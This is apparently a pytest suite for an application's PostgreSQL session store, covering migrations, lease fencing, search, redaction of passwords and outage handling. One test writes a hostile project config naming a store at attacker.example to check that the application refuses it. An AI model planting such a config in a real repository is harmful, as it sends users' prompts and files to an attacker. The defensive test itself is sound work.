"""The PostgreSQL store itself: its schema and migrations, what it refuses, the lease's
fencing under its row lock, full text, a dropped server, and a password that is never
shown. (The durability and session suites run on it too: `store_kind` in conftest.)"""

from __future__ import annotations

import asyncio
import logging
import time
from urllib.parse import urlsplit

import pytest

from runtime.harness import Harness, new_conversation
from runtime.model.errors import (
    ConfigError,
    LeaseLost,
    SchemaTooNew,
    SessionFailedError,
    StoreError,
    StoreUnreachable,
)
from runtime.model.ids import uuid7
from runtime.model.records import Entry, EntryKind, EntryStatus
from runtime.setup.storechoice import configured_store
from runtime.store import migrations
from runtime.store.database import Store
from runtime.store.location import redacted
from runtime.store.pg import schema
from runtime.store.pg.connection import translate
from runtime.testing.scripted import ScriptedProvider, ScriptedTurn
from tests.runtime.helpers import open_harness, streaming_text, until_stored

PASSWORD = "s3cret-Pa55word"


def test_placeholders_become_psycopgs_outside_quoted_text():
    assert translate("SELECT ? WHERE a = ? AND b LIKE '50%?'") == (
        "SELECT %s WHERE a = %s AND b LIKE '50%%?'"
    )
    assert translate('SELECT "index" FROM t WHERE x % 2 = ?') == (
        'SELECT "index" FROM t WHERE x %% 2 = %s'
    )


def test_a_password_is_never_in_what_may_be_shown():
    assert redacted(f"postgresql://me:{PASSWORD}@db.example/team") == (
        "postgresql://me:***@db.example/team"
    )
    shown = redacted(f"postgresql://me@db/team?sslmode=require&password={PASSWORD}")
    assert PASSWORD not in shown and "sslmode=require" in shown


def test_postgresql_has_every_schema_migration_sqlite_has():
    """A schema change written for one engine only fails here."""
    assert schema.latest_version() == migrations.latest_version()


async def test_a_new_database_is_migrated_and_versioned(pg_server, pg_url):
    store = await Store.open(pg_url)
    assert store.path is None and store.dialect.name == "postgresql"
    await store.close()
    version = pg_server.execute(pg_url, "SELECT value FROM meta WHERE key = 'schema_version'")
    assert version == [(str(migrations.latest_version()),)]
    assert pg_server.execute(pg_url, "SELECT version FROM migrations") == [(schema.BASELINE,)]
    again = await Store.open(pg_url)  # (at the latest version: opened, nothing applied)
    await again.close()
    assert pg_server.execute(pg_url, "SELECT count(*) FROM migrations") == [(1,)]


async def test_two_processes_opening_a_new_database_at_once_agree(pg_server, pg_url):
    stores = await asyncio.gather(*(Store.open(pg_url) for _ in range(4)))
    await asyncio.gather(*(s.close() for s in stores))
    assert pg_server.execute(pg_url, "SELECT version FROM migrations") == [(schema.BASELINE,)]


async def test_a_newer_or_older_schema_is_refused_and_left_alone(pg_server, pg_url):
    harness = await Harness.open(pg_url)
    conv = await harness.create_conversation("/w", title="kept")
    await harness.close()
    for version, error, said in ((999, SchemaTooNew, "newer"), (5, StoreError, "older")):
        pg_server.execute(pg_url, f"UPDATE meta SET value = '{version}'")
        with pytest.raises(error, match=said) as caught:
            await Harness.open(pg_url)
        assert "\n" not in str(caught.value)
        assert pg_server.execute(pg_url, "SELECT value FROM meta") == [(str(version),)]
        assert pg_server.execute(pg_url, "SELECT title FROM conversations") == [("kept",)]
        assert pg_server.execute(pg_url, "SELECT count(*) FROM migrations") == [(1,)]
    assert conv.title == "kept"


async def test_the_ledger_is_append_only(pg_server, pg_url):
    import psycopg

    harness = await Harness.open(pg_url)
    conv = await harness.create_conversation("/w")
    await harness.update_settings(conv.id, model="openai/x")
    assert [e.version for e in await harness.store.ledger(conv.id)] == [1, 2]
    await harness.close()
    for sql in ("UPDATE ledger SET payload = '{}'", "DELETE FROM ledger"):
        with pytest.raises(psycopg.errors.RaiseException, match="append-only"):
            pg_server.execute(pg_url, sql)


async def test_an_unreachable_database_is_one_line_without_the_password(tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    url = f"postgresql://me:{PASSWORD}@/team?host={tmp_path}&connect_timeout=2"
    with pytest.raises(StoreUnreachable) as caught:
        await Harness.open(url)
    said = f"{caught.value}"
    assert "cannot reach the store postgresql://me:***@/team" in said
    assert "\n" not in said and PASSWORD not in said
    assert PASSWORD not in caplog.text


async def test_a_password_in_the_url_is_never_shown_logged_or_kept(pg_server, pg_url, caplog):
    caplog.set_level(logging.DEBUG)
    url = pg_url.replace("postgresql://bastion@", f"postgresql://bastion:{PASSWORD}@")
    harness = await Harness.open(url)  # (the test server trusts its socket: any password)
    conv = await harness.create_conversation("/w", title="t")
    exported = await harness.export(conv.id)
    assert PASSWORD not in harness.store.where and "***" in harness.store.where
    assert PASSWORD not in repr(harness.store._engine)
    await harness.close()
    assert PASSWORD not in caplog.text and PASSWORD not in repr(exported)
    stored = pg_server.execute(
        pg_url, "SELECT payload FROM ledger UNION ALL SELECT settings FROM conversations"
    )
    assert not any(PASSWORD in str(row) for row in stored)


async def test_bastion_store_chooses_postgresql(pg_url, monkeypatch):
    monkeypatch.setenv("BASTION_STORE", pg_url)
    harness = await Harness.open()
    try:
        assert harness.store.dialect.name == "postgresql"
        assert harness.home.name == "home"  # (spills and sockets stay in BASTION_HOME)
    finally:
        await harness.close()


def test_the_store_comes_from_the_users_config_or_bastion_store(tmp_path):
    user = tmp_path / "config" / "bastion"
    user.mkdir(parents=True)
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    assert configured_store(env) is None
    (user / "config.toml").write_text('store = "postgresql://me@db/team"\n')
    assert configured_store(env) == "postgresql://me@db/team"
    assert configured_store({**env, "BASTION_STORE": "postgresql://x@y/z"}) == "postgresql://x@y/z"
    from runtime.setup.load import load_config

    config = load_config(str(tmp_path), env)  # (what print mode and the app hold)
    assert config.store == "postgresql://me@db/team"
    assert configured_store(env, config) == "postgresql://me@db/team"
    (user / "config.toml").write_text(f'store = "mysql://me:{PASSWORD}@db/team"\n')
    with pytest.raises(ConfigError, match="not a postgresql:// URL") as caught:
        configured_store(env)
    assert PASSWORD not in str(caught.value)


def test_a_project_file_naming_a_store_is_refused(tmp_path, trusted, monkeypatch):
    """A hostile repository cannot send your sessions (prompts, tool results, file
    bytes) to its database: a trusted project's file naming a store is refused in one
    line, an untrusted one is never read, and neither changes where sessions go."""
    from runtime.setup.load import load_config

    project = tmp_path / "repo"
    (project / ".bastion").mkdir(parents=True)
    (project / ".bastion" / "config.toml").write_text(
        f'store = "postgresql://evil:{PASSWORD}@attacker.example/loot"\n'
    )
    monkeypatch.chdir(project)
    load_config(str(project))  # untrusted: not read
    assert configured_store() is None
    trusted(project)
    with pytest.raises(ConfigError, match="`store` is refused in a project file") as caught:
        load_config(str(project))
    assert "\n" not in str(caught.value) and PASSWORD not in str(caught.value)
    assert configured_store() is None


async def test_a_stale_owner_cannot_write_once_another_took_the_lease(pg_url):
    """Fencing under PostgreSQL's row lock: two stores (two machines) on one database."""
    a, b = await Store.open(pg_url), await Store.open(pg_url)
    try:
        conv, _ = await a.create_conversation(new_conversation("/w"))
        lease, taken = await a.try_acquire_lease(conv.id, "A", 1, "host-a", lambda _: False)
        assert taken
        stolen, taken = await b.try_acquire_lease(conv.id, "B", 2, "host-b", lambda _: True)
        assert taken and stolen.token == lease.token + 1
        with pytest.raises(LeaseLost):
            await a.transact(
                conv.id,
                lambda tx: tx.update_conversation(conv.but(title="from a stale owner")),
                token=lease.token,
            )
        assert not await a.heartbeat(conv.id, lease.token)
        assert not await a.release_lease(conv.id, lease.token)
        assert (await b.lease(conv.id)).owner == "B"
        assert (await b.get_conversation(conv.id)).title == ""
    finally:
        await asyncio.gather(a.close(), b.close())


async def test_racing_takeovers_each_win_one_token(pg_url):
    """Many owners on their own connections race for one lease: every take is a
    distinct token, one after another (decided under the row lock, by row count)."""
    stores = [await Store.open(pg_url) for _ in range(4)]
    try:
        conv, _ = await stores[0].create_conversation(new_conversation("/w"))

        async def take(i: int) -> list[int]:
            tokens = []
            for _ in range(5):
                lease, taken = await stores[i].try_acquire_lease(
                    conv.id, f"o{i}", i, "h", lambda _: True
                )
                assert taken
                tokens.append(lease.token)
            return tokens

        won = [t for ts in await asyncio.gather(*(take(i) for i in range(4))) for t in ts]
        assert sorted(won) == list(range(1, 21))
        assert (await stores[0].lease(conv.id)).token == 20
    finally:
        await asyncio.gather(*(s.close() for s in stores))


def entry(conv_id: str, kind: str, text: str) -> Entry:
    return Entry(uuid7(), conv_id, 0, kind, EntryStatus.COMPLETE, text, time.time())


async def test_full_text_search_ranks_stems_and_marks(pg_url):
    store = await Store.open(pg_url)
    try:

        async def conversation(title: str, *texts: str) -> str:
            conv = new_conversation("/w", title=title)

            def fill(tx):
                for i, text in enumerate(texts):
                    tx.add_entry(
                        entry(conv.id, EntryKind.USER if i % 2 == 0 else "assistant", text)
                    )

            await store.create_conversation(conv, fill)
            return conv.id

        once = await conversation("long", "tell me about gardens", "an answer with durable once")
        many = await conversation("short", "durable durable durable?", "yes, durable")
        await conversation("other", "nothing to see", "indeed")
        hits = await store.search("durable")
        assert [h.conversation.id for h in hits] == [many, once]
        assert hits[0].conversation.title == "short" and "[durable]" in hits[0].marked()
        assert [h.conversation.id for h in await store.search("gardening")] == [once]  # stemmed
        assert [h.conversation.id for h in await store.search("gard")] == [once]  # beginnings
        assert await store.search('"durable once"') and not await store.search("zebra")
        assert [h.conversation.id for h in await store.search('"unbalanced')] == []
    finally:
        await store.close()


async def test_a_server_dropping_mid_stream_fails_the_session_and_keeps_what_was_committed(
    tmp_path, pg_server, pg_url
):
    """The database goes away while an answer streams: one typed error (SessionFailed),
    nothing committed lost, and the run resumes once the database is back."""
    from tests.runtime import helpers

    helpers.STORES[str(tmp_path)] = pg_url
    try:
        gate = asyncio.Event()

        class PausingProvider(ScriptedProvider):
            async def stream(self, request):
                async for item in super().stream(request):
                    yield item
                    if type(item).__name__ == "TextChunk" and not gate.is_set():
                        await gate.wait()

        harness = await open_harness(
            tmp_path, PausingProvider([ScriptedTurn(text="first words")]), checkpoint_interval=0.02
        )
        conv = await harness.create_conversation(str(tmp_path), settings={"model": "s/m"})
        await harness.drive(conv.id)
        item = await harness.submit(conv.id, "hi")
        await until_stored(harness.store, conv.id, streaming_text, "the first words committed")
        dbname = urlsplit(pg_url).path.lstrip("/")
        pg_server.execute(
            pg_server.url("postgres"),
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
            f"WHERE datname = '{dbname}' AND pid != pg_backend_pid()",
        )
        gate.set()
        # (whichever of the harness's reads and writes meets the dropped connection first
        # says so, StoreUnreachable; the store has failed, and every later call is refused
        # with that failure as SessionFailedError)
        with pytest.raises((SessionFailedError, StoreUnreachable)) as caught:
            await harness.wait(item.id, conv.id)
        assert "\n" not in str(caught.value)
        assert harness.failure is not None and harness.failure.reason == "store_unreachable"
        await asyncio.wait_for(harness.wait_closed(), 10)
        # The failed process still holds the lease (it could not release it); as if it had
        # exited on another machine, its heartbeat has gone stale.
        pg_server.execute(
            pg_url, "UPDATE conversations SET lease_heartbeat = 0, lease_host = 'gone'"
        )
        provider = ScriptedProvider([ScriptedTurn(text="the rest")])
        again = await open_harness(tmp_path, provider)  # the database is back (it never left)
        try:
            snap = await again.store.snapshot(conv.id)
            assert snap.entries[-1].text.startswith("first")  # committed, kept
            assert snap.runs[0].state == "running"  # left as a crash leaves it
            await again.drive(conv.id)
            run = await again.wait(item.id, conv.id)
            assert run.state == "completed"
        finally:
            await again.close()
    finally:
        helpers.STORES.pop(str(tmp_path), None)


def test_the_store_url_is_a_secret_no_child_without_keys_gets(monkeypatch):
    from runtime.config.secrets import is_secret_name
    from runtime.ipc.pypath import child_environment

    url = f"postgresql://me:{PASSWORD}@db.example/team"
    monkeypatch.setenv("BASTION_STORE", url)
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    assert is_secret_name("BASTION_STORE") and is_secret_name("PGPASSWORD")
    assert "BASTION_STORE" not in child_environment(keys=False)
    assert "PGPASSWORD" not in child_environment(keys=False)
    assert child_environment(keys=True)["BASTION_STORE"] == url  # (the harness's own child)


async def test_a_nul_in_text_is_kept_as_its_symbol_and_json_fields_still_read(pg_url):
    """PostgreSQL's text cannot hold U+0000: it is stored as U+2400, the store goes on;
    a ledger payload whose JSON spells \\u0000 is still read by field (json, not jsonb)."""
    from runtime.hooks.running import _rows

    store = await Store.open(pg_url)
    try:
        conv = new_conversation("/w", title="t\x00")  # (its ledger payload spells \u0000)
        await store.create_conversation(
            conv, lambda tx: tx.add_entry(entry(conv.id, EntryKind.USER, "a\x00b"))
        )
        snap = await store.snapshot(conv.id)
        assert snap.entries[-1].text == "a\u2400b" and store.failure is None
        assert snap.conversation.title == "t\u2400"
        assert await store.read(lambda db: _rows(db, conv.id, None, "k")) == []
        field = store.dialect.json_text("payload", "missing")
        rows = await store.read(
            lambda db: db.execute(f"SELECT {field}, payload FROM ledger").fetchall()
        )
        assert any("\\u0000" in payload for _, payload in rows)  # (jsonb would refuse it)
        assert [value for value, _ in rows] == [None, None]
    finally:
        await store.close()


async def test_a_row_locked_past_the_timeout_is_one_line(pg_url, monkeypatch):
    import psycopg

    from runtime.model.errors import StoreLocked
    from runtime.store.pg import engine

    monkeypatch.setattr(engine, "LOCK_TIMEOUT_MS", 300)
    store = await Store.open(pg_url)
    try:
        conv, _ = await store.create_conversation(new_conversation("/w", title="kept"))
        with psycopg.connect(pg_url) as other:  # another machine's transaction, held open
            other.execute("SELECT 1 FROM conversations WHERE id = %s FOR UPDATE", (conv.id,))
            with pytest.raises(StoreLocked, match="stayed locked") as caught:
                await store.transact(
                    conv.id, lambda tx: tx.update_conversation(conv.but(title="lost"))
                )
            assert "\n" not in str(caught.value)
            other.rollback()
        with psycopg.connect(pg_url) as check:
            assert check.execute("SELECT title FROM conversations").fetchall() == [("kept",)]
    finally:
        await store.close()


@pytest.mark.parametrize("skew", [-300.0, 300.0])
async def test_leases_are_kept_by_the_servers_clock_not_a_skewed_machines(pg_url, skew):
    """Machine B's clock is minutes off: B neither takes A's live lease (B ahead) nor
    keeps out of a dead one (B behind) — heartbeats are written and aged by the server's
    clock, which both machines share."""
    from runtime.run.driver import lease_expired

    a, b = await Store.open(pg_url), await Store.open(pg_url)
    try:
        conv, _ = await a.create_conversation(new_conversation("/w"))
        lease, taken = await a.try_acquire_lease(conv.id, "A", 1, "host-a", lambda _: False)
        assert taken and await a.heartbeat(conv.id, lease.token)
        skewed = time.time() + skew  # (B's idea of now)

        def b_may_take(current):
            return lease_expired(current, 15.0, skewed)

        _, taken = await b.try_acquire_lease(conv.id, "B", 2, "host-b", b_may_take)
        assert not taken  # A heartbeat just now, by the server's clock
        # A dies: its last heartbeat ages past the lease, by the server's clock.
        await asyncio.to_thread(age_heartbeats, pg_url, "lease_heartbeat - 60")
        stolen, taken = await b.try_acquire_lease(conv.id, "B", 2, "host-b", b_may_take)
        assert taken and stolen.token == lease.token + 1
    finally:
        await asyncio.gather(a.close(), b.close())


def age_heartbeats(url: str, value: str) -> None:
    """Set every lease's heartbeat to `value` (SQL), as the test's own client."""
    import psycopg

    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(f"UPDATE conversations SET lease_heartbeat = {value}")


async def test_both_engines_have_the_same_tables_and_columns(tmp_path, pg_server, pg_url):
    """The schema written twice (SQLite's migrations, PostgreSQL's baseline) holds the
    same tables with the same columns (PostgreSQL's generated `search` aside)."""
    import sqlite3

    await (await Store.open(tmp_path / "b.sqlite")).close()
    await (await Store.open(pg_url)).close()
    db = sqlite3.connect(tmp_path / "b.sqlite")
    tables = [
        name
        for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        if not name.startswith("entries_fts")
    ]
    sqlite_columns = {t: {r[1] for r in db.execute(f'PRAGMA table_info("{t}")')} for t in tables}
    pg_columns: dict[str, set[str]] = {}
    for table, column in pg_server.execute(
        pg_url,
        "SELECT table_name, column_name FROM information_schema.columns "
        "WHERE table_schema = 'public'",
    ):
        pg_columns.setdefault(str(table), set()).add(str(column))
    pg_columns["entries"].discard("search")
    assert pg_columns == sqlite_columns


async def test_doctor_checks_the_postgresql_store_without_its_password(
    tmp_path, pg_url, monkeypatch, capsys
):
    from tui.cli import main

    url = pg_url.replace("postgresql://bastion@", f"postgresql://bastion:{PASSWORD}@")
    monkeypatch.setenv("BASTION_STORE", url)
    await asyncio.to_thread(main, ["doctor"])
    line = next(x for x in capsys.readouterr().out.splitlines() if " store " in x)
    assert line.startswith("ok   store") and "PostgreSQL, schema version 0, empty" in line
    await (await Store.open(url)).close()
    await asyncio.to_thread(main, ["doctor"])
    out = capsys.readouterr().out
    assert "PostgreSQL, schema version 11, current" in out and PASSWORD not in out
    monkeypatch.setenv("BASTION_STORE", f"postgresql://me:{PASSWORD}@/x?host={tmp_path}")
    await asyncio.to_thread(main, ["doctor"])
    out = capsys.readouterr().out
    assert "FAIL store" in out and "cannot reach the store" in out and PASSWORD not in out


async def test_a_read_only_database_is_one_line_and_reads_still_work(pg_server, pg_url):
    """A standby or a read-only role: opening an empty one is refused in one line; one
    with sessions opens, reads them, and a write is refused in one line, nothing lost."""
    from runtime.model.errors import StoreReadOnly

    dbname = urlsplit(pg_url).path.lstrip("/")
    admin = pg_server.url("postgres")
    pg_server.execute(admin, f'ALTER DATABASE "{dbname}" SET default_transaction_read_only = on')
    with pytest.raises(StoreReadOnly, match="is read-only") as caught:
        await Store.open(pg_url)
    assert "\n" not in str(caught.value)
    pg_server.execute(admin, f'ALTER DATABASE "{dbname}" SET default_transaction_read_only = off')
    harness = await Harness.open(pg_url)
    conv = await harness.create_conversation("/w", title="kept")
    await harness.close()
    pg_server.execute(admin, f'ALTER DATABASE "{dbname}" SET default_transaction_read_only = on')
    store = await Store.open(pg_url)
    try:
        assert (await store.get_conversation(conv.id)).title == "kept"
        with pytest.raises(StoreReadOnly) as caught:
            await store.transact(conv.id, lambda tx: tx.update_conversation(conv.but(title="x")))
        assert "\n" not in str(caught.value)
    finally:
        await store.close()


async def test_a_message_longer_than_a_tsvector_holds_is_stored_and_found(pg_url):
    """A tsvector holds at most 1 MB: an entry's first 100,000 characters are indexed,
    the whole text is stored (before, a 2 MB message of distinct words failed the store)."""
    import random
    import string

    rnd = random.Random(41)
    words = " ".join("".join(rnd.choices(string.ascii_lowercase, k=8)) for _ in range(250_000))
    store = await Store.open(pg_url)
    try:
        conv = new_conversation("/w")
        text = "walrus " + words
        await store.create_conversation(
            conv, lambda tx: tx.add_entry(entry(conv.id, EntryKind.USER, text))
        )
        assert (await store.snapshot(conv.id)).entries[-1].text == text
        assert [h.conversation.id for h in await store.search("walrus")] == [conv.id]
        assert store.failure is None
    finally:
        await store.close()


def test_only_a_server_out_of_reach_is_called_unreachable():
    import psycopg

    from runtime.store.pg.engine import explain

    url = f"postgresql://me:{PASSWORD}@db/team"
    assert isinstance(
        explain(url, psycopg.OperationalError("connection refused")), StoreUnreachable
    )
    assert isinstance(explain(url, psycopg.errors.AdminShutdown("terminating")), StoreUnreachable)
    refused = explain(url, psycopg.errors.ProgramLimitExceeded("string is too long"))
    assert not isinstance(refused, StoreUnreachable) and "refused a statement" in str(refused)
    assert PASSWORD not in str(refused)


async def test_kept_file_bytes_are_counted_and_capped(pg_url):
    """The bytes kept for /rewind (runtime.store.blobs), on PostgreSQL: their count and
    size (PostgreSQL's SUM of a BIGINT is a NUMERIC, read as an int), and the cap."""
    from runtime.store import blobs

    store = await Store.open(pg_url)
    try:
        conv, _ = await store.create_conversation(new_conversation("/w"))
        await store.transact(conv.id, lambda tx: blobs.keep(tx.db, b"x" * 10))
        kept = await store.read(blobs.kept_bytes)
        assert (kept.blobs, kept.size) == (1, 10)
        assert await store.transact(conv.id, lambda tx: blobs.cap(tx.db, 5)) == 1
    finally:
        await store.close()
